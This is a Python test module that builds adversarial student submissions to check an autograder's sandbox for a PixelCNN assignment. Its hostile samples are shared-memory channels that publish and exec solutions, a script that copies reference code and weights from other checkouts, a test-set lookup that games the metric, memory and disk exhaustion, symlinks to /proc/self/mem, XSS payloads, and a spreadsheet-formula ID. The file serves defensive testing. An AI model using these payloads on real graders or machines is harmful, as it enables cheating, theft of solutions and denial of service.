      _hostile("correct", REF, "masked_conv", lambda ctx: _template(FORK_LEFTOVERS, marker=ctx.marker))),
    S("disk_fill", "The correct solution and weights; the loss_fn cell fills its working folder 1 MiB at a time.", 23,
      "", _hostile("correct", REF, "loss_fn", lambda ctx: _template(DISK_FILL, cap_mb=DISK_FILL_CAP_MB))),
    # --- issue 12: probes (grader-probes branch)
    S("probe_read_net", "Column-order generate that first looks for the probe net's parameters (attributes, "
      "buffers, closures, dicts in the process) to answer the chain probe in one pass.", 15, r"raster order",
      _hostile("generate_columns", None, "generate", _static(READ_PROBE_NET), function="generate")),
    S("probe_leak", "The correct solution and weights; during hidden probes only, loss_fn raises with the marker, "
      "the probe's inputs and the box's source in its message, and generate prints the marker, then dies.", 19,
      DIED, _build_probe_leak),
    # --- end probes
]


# --------------------------------------------------------------------------- issue 12: intake and jail
#: code that a class could share outside the jail: the whole correct solution, as one source
def _solution_blob() -> str:
    good = solution_sources()
    return "\n\n".join(good[gid] for gid in ("masked_conv", "pixelcnn", "loss_fn", "generate"))


IPC_PUBLISH = """
def _publish():
    import ctypes
    import os
    try:
        blob = $blob.encode()
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmget.restype = ctypes.c_int
        libc.shmat.restype = ctypes.c_void_p
        shm = libc.shmget($key, len(blob) + 1, 0o1666)
        if shm >= 0:
            address = libc.shmat(shm, None, 0)
            ctypes.memmove(address, blob, len(blob))
        libc.mq_open.restype = ctypes.c_int
        libc.mq_open($queue.encode(), os.O_CREAT | os.O_WRONLY, 0o666, None)
    except Exception:
        pass


_publish()
"""

IPC_READ = """
def _read_published():
    import ctypes
    import time
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.restype = ctypes.c_int
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(30):
        try:
            shm = libc.shmget($key, 0, 0o666)
            if shm >= 0:
                text = ctypes.string_at(libc.shmat(shm, None, 0)).decode()
                exec(text, globals())
                return
        except Exception:
            pass
        time.sleep(0.1)


_read_published()
"""

STEAL_FROM_DISK = """
def _steal_from_disk():
    import glob
    import os
    import shutil
    wanted = ("MaskedConv2d", "PixelCNN", "loss_fn", "generate")
    for root in [$decoy, $repo, os.path.join($repo, "graded")] + glob.glob("/var/tmp/*/*checkout*") \\
            + glob.glob("/work/*") + glob.glob("/root/*"):
        for path in (os.path.join(root, "autograder", "assignments", "10_ar", "reference.py"),
                     os.path.join(root, "reference.py")):
            try:
                namespace = {"__name__": "stolen"}
                exec(open(path).read(), namespace)
                globals().update({name: namespace[name] for name in wanted if name in namespace})
            except Exception:
                pass
        for path in glob.glob(os.path.join(root, "**", "pixelcnn.pth"), recursive=True)[:3]:
            try:
                shutil.copyfile(path, "pixelcnn.pth")
            except Exception:
                pass


_steal_from_disk()
"""

#: a PixelCNN that adds a lookup over the digits students have (train and test splits) to an
#: untrained PixelCNN: causal (exact prefix matches only), near 0 bits/dim on those digits
MEMORISE = """
class _Lookup:
    def __init__(self):
        import numpy as np
        from arflow.data import mnist
        digits = [mnist(split, source="embedded")[0] for split in ("test",)]
        self.table = torch.from_numpy(np.concatenate(digits).reshape(-1, 28 * 28).astype(np.int64))

    def counts(self, x):
        B, _, H, W = x.shape
        if (H, W) != (28, 28):
            return None
        values = torch.round(x[:, 0].reshape(B, H * W) * 255).long()
        table = self.table
        equal = values[:, None, :] == table[None]  # (B, N, HW)
        before = torch.cumprod(equal.to(torch.uint8), dim=2)
        matches = torch.cat([torch.ones_like(before[:, :, :1]), before[:, :, :-1]], dim=2).bool()
        b, n, p = matches.nonzero(as_tuple=True)
        index = (b * H * W + p) * 256 + table[n, p]
        flat = torch.bincount(index, minlength=B * H * W * 256).float()
        return flat.view(B, H * W, 256).permute(0, 2, 1).reshape(B, 256, H, W)


_LOOKUP = _Lookup()
_HonestPixelCNN = PixelCNN


class PixelCNN(_HonestPixelCNN):
    def forward(self, x):
        logits = super().forward(x)
        counts = _LOOKUP.counts(x.detach())
        return logits if counts is None else logits + 30.0 * torch.log1p(counts)
"""


#: four helpers of 1.5 GiB each (each under the 3 GiB per-process limit, together over the
#: submission's 4 GiB), allocated before the cell ends, and /dev/shm filled until it refuses
#: (it is the jail's own tmpfs)
MEMORY_ACROSS_PROCESSES = """
def _hold_memory():
    import os
    import subprocess
    import sys
    try:
        with open("/dev/shm/filler", "wb") as handle:
            for _ in range(400):
                handle.write(b"x" * 2**20)
    except OSError:
        pass
    try:
        os.remove("/dev/shm/filler")
    except OSError:
        pass
    hold = ("import time; b = bytearray(1536 * 2**20); b[::4096] = b'x' * len(b[::4096]); "
            "print('ready', flush=True); time.sleep(30)")
    helpers = []
    for _ in range(4):
        try:
            helpers.append(subprocess.Popen([sys.executable, "-c", hold], stdout=subprocess.PIPE,
                                            stderr=subprocess.DEVNULL, start_new_session=True))
        except Exception:
            pass
    for helper in helpers:  # every helper holds its memory (or was stopped) before the cell ends
        helper.stdout.readline()


_hold_memory()
"""


def _build_ipc(code: str, key: int, queue: str):
    def build(folder: Path, ctx: Context) -> None:
        kind = "correct" if code is IPC_PUBLISH else "blank"
        fills = _code(kind)
        text = _template(code, blob=_solution_blob(), key=key, queue=queue)
        fills["masked_conv"] = _after(fills["masked_conv"], text)
        _write(folder, _notebook(fills))
        if kind == "correct":
            _copy_weights(folder)

    return build


def _build_steal_from_disk(folder: Path, ctx: Context) -> None:
    decoy = ctx.submitted.parent / "other-checkout"  # another checkout of the course on the same machine
    if not decoy.exists():
        (decoy / "autograder" / "assignments" / "10_ar" / "samples").mkdir(parents=True)
        shutil.copyfile(ROOT / "autograder" / "assignments" / "10_ar" / "reference.py",
                        decoy / "autograder" / "assignments" / "10_ar" / "reference.py")
        shutil.copytree(SAMPLES / "reference", decoy / "autograder" / "assignments" / "10_ar" / "samples" / "reference")
        os.chmod(decoy.parent, 0o755)
    code = _template(STEAL_FROM_DISK, decoy=decoy, repo=ctx.repo)
    _write(folder, _notebook({gid: _after(source, code) for gid, source in _code("blank").items()}))


def _build_memorise(folder: Path, ctx: Context) -> None:
    fills = _code("correct")
    fills["pixelcnn"] = _after(fills["pixelcnn"], MEMORISE)
    _write(folder, _notebook(fills))
    namespace: dict = {}
    prelude = "import torch\nimport torch.nn as nn\nimport torch.nn.functional as F\n"
    good = solution_sources()
    exec(compile(prelude + good["masked_conv"] + "\n" + good["pixelcnn"], "reference", "exec"), namespace)
    torch.manual_seed(0)
    torch.save(namespace["PixelCNN"]().state_dict(), folder / WEIGHTS)  # untrained weights


def _build_link_student_folder(folder: Path, ctx: Context) -> None:
    shutil.rmtree(folder.parent)
    os.symlink(SAMPLES / "reference", folder.parent)


def _build_link_assignment_folder(folder: Path, ctx: Context) -> None:
    folder.rmdir()
    os.symlink(SAMPLES / "reference" / "10_ar", folder)


def _build_link_files(folder: Path, ctx: Context) -> None:
    os.symlink(ROOT / "solutions" / "10_ar" / NOTEBOOK, folder / NOTEBOOK)
    os.symlink("/proc/self/mem", folder / WEIGHTS)


def _build_file_entry(folder: Path, ctx: Context) -> None:
    shutil.rmtree(folder.parent)
    folder.parent.write_text("a plain file where a student's folder should be\n")


def _build_deep_and_sparse(folder: Path, ctx: Context) -> None:
    _write(folder, _notebook(_code("partial")))
    deep = folder / "deep"
    for _ in range(11):  # 1,100 folders deep, made 100 at a time (a path's length is limited)
        os.makedirs(deep / os.path.join(*["d"] * 100))
        deep = deep / os.path.join(*["d"] * 100)
        os.chdir(ROOT)
    with open(folder / WEIGHTS, "wb") as handle:  # 1 TiB, sparse: nothing is written
        handle.truncate(2**40)
    os.mkfifo(folder / "pipe")


def _build_figures_and_outputs(folder: Path, ctx: Context) -> None:
    nb = _notebook(_code("correct"))
    blob = "x" * (3 * 2**20)
    for cell in [c for c in nb.cells if c.cell_type == "code"][:7]:  # about 21 MB of stored outputs
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=blob)]
    _write(folder, nb)
    _copy_weights(folder)
    (folder / "figures").mkdir()
    for i in range(60):  # sort before pixelcnn.* and outnumber the old 50-file cap
        (folder / "figures" / f"a_figure_{i:02d}.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(2000))
        (folder / f"a_plot_{i:02d}.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(2000))


def _build_grade_id_list(folder: Path, ctx: Context) -> None:
    nb = _notebook(_code("partial"))
    for cell in nb.cells:
        if (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id") == "test_loss_fn":
            cell.metadata["nbgrader"]["grade_id"] = ["test_loss_fn", "hidden_loss_fn"]
    nbformat.write(nb, str(folder / NOTEBOOK), version=4)


def _build_deep_expression(folder: Path, ctx: Context) -> None:
    fills = _code("correct")
    fills["loss_fn"] = _after(fills["loss_fn"], "_huge = " + " + ".join(["1"] * 3500))
    _write(folder, _notebook(fills))
    _copy_weights(folder)


INJECT_HTML = """
from IPython.display import HTML, Javascript, display
display(HTML("<b onmouseover=\\"alert('$marker')\\">hover</b><script>alert('$marker')</script>"))
display(Javascript("alert('$marker')"))
"""


def _build_injection(folder: Path, ctx: Context) -> None:
    fills = _code("partial")
    fills["masked_conv"] = _after(fills["masked_conv"], INJECT_HTML.replace("$marker", ctx.marker))
    nb = _notebook(fills)
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(f"<img src=x onerror=\"alert('{ctx.marker}')\"> and "
                                                     f"<a href=\"javascript:alert('{ctx.marker}')\">a link</a>"))
    # The only notebook, renamed: its (forged) name reaches the instructor's summary in the note.
    _write(folder, nb, name="x\n# Forged heading [click](javascript:alert(1))\n.ipynb")


INTAKE_SCENARIOS: list[Scenario] = [
    S("ipc_publish", "The correct solution and weights; publishes the whole solution in a System V shared-memory "
      "segment and creates a POSIX message queue (a class's channel outside the jail).", 23, "",
      _build_ipc(IPC_PUBLISH, 0x0A4F1E12, "/arflowcorpusqueue"), honest=True),
    S("ipc_read", "Blank code; polls for the segment the other student published and runs what it finds.", 0, "",
      _build_ipc(IPC_READ, 0x0A4F1E12, "/arflowcorpusqueue")),
    S("steal_from_disk", "Blank code; reads the reference and trained weights from another checkout of the course "
      "on the same machine, the repository and the graded/ folder of `make demo`.", 0, "", _build_steal_from_disk),
    S("memorise_test", "The correct code, untrained weights, and a PixelCNN that adds a causal prefix lookup over "
      "the test digits students have: near 0 bits/dim on them, nothing on the grader's own digits.", 18,
      r"bits/dim .* is not below", _build_memorise),
    S("memory_across_processes", "The correct solution and weights; the loss_fn cell fills /dev/shm and starts "
      "four helpers of 1.5 GiB each: within each process's limit, over the submission's.", 23, r"memory limit",
      _hostile("correct", REF, "loss_fn", _static(MEMORY_ACROSS_PROCESSES))),
    S("link_student_folder", "The student folder is a symbolic link to the reference sample.", 0,
      r"symbolic link", _build_link_student_folder, refused=True),
    S("link_assignment_folder", "10_ar/ is a symbolic link to the reference sample's.", 0, r"symbolic link",
      _build_link_assignment_folder),
    S("link_files", "pixelcnn.ipynb links to the instructor's solution, pixelcnn.pth to /proc/self/mem.", 0,
      r"symbolic link", _build_link_files),
    S("file_entry", "A plain file where a student's folder should be.", 0, r"not a folder", _build_file_entry,
      refused=True),
    S("deep_and_sparse", "Partial code; folders nested 1,100 deep, a FIFO, and a 1 TiB sparse pixelcnn.pth.", 10,
      r"larger than", _build_deep_and_sparse),
    S("figures_and_outputs", "The correct solution and weights; 21 MB of stored outputs and 120 PNG figures that "
      "sort before pixelcnn.*.", 23, "", _build_figures_and_outputs, honest=True),
    S("grade_id_list", "Partial code; a grade cell's grade id is a list.", 10, r"grade cells were changed",
      _build_grade_id_list),
    S("deep_expression", "The correct solution and weights; the loss_fn cell also holds a 3,500-term sum (too deep "
      "for Python's compiler): only loss_fn's points are lost.", 20, r"loss_fn|RecursionError",
      _build_deep_expression),
    S("injection", "Partial code, renamed to a name with a newline and a markdown heading; outputs a <script>, an "
      "event handler and JavaScript; a markdown cell with an onerror image and a javascript: link.", 10,
      r"removed from this page", _build_injection),
    S("odd_formula_id", "Partial code; the student id starts with '=' and holds a tab and a newline.", 10, "",
      _plain("partial"), folder="=HYPERLINK(\"mailto:x@example.com\",\"x\")\tstudent\nid"),
    S("odd_long_id", "Partial code; a 251-byte student id.", 10, "", _plain("partial"), folder="s" * 251),
    S("odd_template_id", "Partial code; the student id is _template (once the name of the workers' template).", 10,
      "", _plain("partial"), folder="_template"),
]
SCENARIOS += INTAKE_SCENARIOS


def build_corpus(submitted: Path, ctx: Context, names: list[str] | None = None) -> dict[str, Scenario]:
    """Write ``submitted/<name>/10_ar/...`` for each scenario (all, or ``names``); return them by name."""
    by_name = {s.name: s for s in SCENARIOS}
    unknown = sorted(set(names or []) - set(by_name))
    if unknown:
        raise KeyError(f"unknown scenario(s): {', '.join(unknown)}")
    chosen = {name: by_name[name] for name in (names if names is not None else by_name)}
    for scenario in chosen.values():
        student = Path(submitted) / scenario.student_id
        if student.is_symlink() or student.is_file():
            student.unlink()
        shutil.rmtree(student, ignore_errors=True)
        folder = student / "10_ar"
        folder.mkdir(parents=True)
        scenario.build(folder, ctx)
    return chosen


def main(argv: list[str] | None = None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    if len(argv) != 1:
        print("usage: python -m tests.grading_corpus DIR", file=sys.stderr)
        return 2
    target = Path(argv[0]).resolve()
    ctx = Context(repo=ROOT, submitted=target, out=target.with_name(target.name + "-out"),
                  canary=target.with_name(target.name + "-canary"), port=9, marker="arflowcorpusdummymarker")
    built = build_corpus(target, ctx)
    for name, scenario in built.items():
        files = sorted(str(p.relative_to(target / name / "10_ar")) for p in (target / name / "10_ar").rglob("*")
                       if p.is_file())
        print(f"{name:24s} {scenario.total:4g}  {'honest' if scenario.honest else '      '}  {scenario.reason!r:45s} "
              f"{', '.join(files)}")
    print(f"{len(built)} scenarios in {target}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
